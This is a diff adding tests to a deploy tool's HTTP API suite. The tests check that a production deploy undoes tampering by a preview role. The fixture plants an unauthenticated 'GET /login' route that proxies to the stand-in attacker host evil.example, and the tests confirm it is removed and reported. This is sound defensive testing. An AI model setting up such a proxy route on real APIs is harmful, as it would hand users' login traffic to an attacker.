@@ -259,6 +259,83 @@ describe('http-api', () => {
     expect(fake.calls.of({ operation: 'CreateApi' })).toHaveLength(1); // not retried
   });
 
+  describe('a protected stage first deployed as a preview: what the preview role could add to its HTTP API', () => {
+    const release = stageContext('release');
+    const protectedInput = (over: Partial<GatewayInput> = {}) =>
+      gatewayInput({ protectedStage: true, ...over }, release);
+    /** The preview's credentials add their own integrations and routes to the stage's (tagged) API. */
+    function plant(fake: FakeAws) {
+      const entry = [...fake.account.httpApis.values()].find(
+        (a) => a.Tags?.['lambda-deploy:stage'] === 'release',
+      )!;
+      const pr = `arn:aws:lambda:${REGION}:${ACCOUNT_ID}:function:shop-pr-7:live`;
+      entry.integrations.set('prfn', {
+        integrationId: 'prfn',
+        integrationType: 'AWS_PROXY',
+        integrationUri: pr,
+        payloadFormatVersion: '2.0',
+      });
+      entry.integrations.set('evil', {
+        integrationId: 'evil',
+        integrationType: 'HTTP_PROXY',
+        integrationUri: 'https://evil.example/{proxy}',
+        integrationMethod: 'ANY',
+      });
+      const [route] = [...entry.routes.values()];
+      route!.target = 'integrations/prfn';
+      entry.routes.set('login', {
+        routeId: 'login',
+        routeKey: 'GET /login',
+        target: 'integrations/evil',
+        authorizationType: 'NONE',
+      });
+      return entry;
+    }
+
+    test('the production deploy points $default back at the alias and removes routes to anything else, naming them', async () => {
+      aws = await startFakeAws();
+      const fake = aws;
+      seedStageFunction(fake, release);
+      const logger = new RecordingLogger();
+      const clients = fake.clients();
+      const run = (input: GatewayInput) =>
+        ensureGateway('http-api', clients, input, { logger, sleep: fake.clock.sleep });
+      await run(gatewayInput({}, release));
+      const entry = plant(fake);
+      const ours = [...entry.integrations.values()].find(
+        (i) => i.integrationUri === `arn:aws:lambda:${REGION}:${ACCOUNT_ID}:function:shop-release:live`,
+      )!;
+
+      const result = await run(protectedInput({ functionChanged: false }));
+
+      expect(result.changed).toBe(true);
+      expect([...entry.routes.values()].map((r) => [r.routeKey, r.target])).toEqual([
+        ['$default', `integrations/${ours.integrationId}`],
+      ]);
+      expect(logger.text('warning')).toMatch(/GET \/login.*evil\.example/);
+    });
+
+    test('an unprotected stage keeps its three reads; a protected one reads its routes and integrations too, alongside', async () => {
+      aws = await startFakeAws();
+      const fake = aws;
+      seedStageFunction(fake, release);
+      const clients = fake.clients();
+      const run = (input: GatewayInput) =>
+        ensureGateway('http-api', clients, input, { logger: new RecordingLogger(), sleep: fake.clock.sleep });
+      await run(gatewayInput({}, release));
+      fake.calls.clear();
+      await run(protectedInput());
+      expect(fake.calls.calls.map((c) => c.operation).sort()).toEqual([
+        'GetApis',
+        'GetIntegrations',
+        'GetPolicy',
+        'GetRoutes',
+        'GetStage',
+      ]);
+      expect(fake.calls.writes()).toEqual([]);
+    });
+  });
+
   test('a $default route pointing elsewhere is repointed, a stage without auto-deploy is fixed', async () => {
     const { fake, run, writes, apis } = await setup();
     await run();
